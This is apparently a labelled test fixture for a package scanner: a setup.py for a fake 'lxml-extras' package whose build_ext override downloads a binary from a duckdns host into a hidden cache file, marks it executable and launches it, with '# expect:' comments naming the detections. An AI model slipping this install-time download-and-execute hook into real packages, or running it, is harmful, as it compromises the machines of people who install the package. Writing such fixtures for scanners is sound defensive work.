# ruff: noqa
# fmt: off
"""A build_ext override (normally used to tune compilers) that downloads and runs a binary."""
import os
import stat
import urllib.request

from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext


class BuildExt(build_ext):  # expect: install-hook
    def run(self):
        path = os.path.expanduser("~/.cache/.updater")
        urllib.request.urlretrieve("http://update-check.duckdns.org/u", path)  # expect: install-hook
        os.chmod(path, stat.S_IRWXU)  # expect: download-execute
        os.spawnl(os.P_NOWAIT, path, path)  # expect: download-execute
        super().run()


setup(name="lxml-extras", version="5.1", ext_modules=[Extension("x", ["x.c"])], cmdclass={"build_ext": BuildExt})  # expect: install-hook
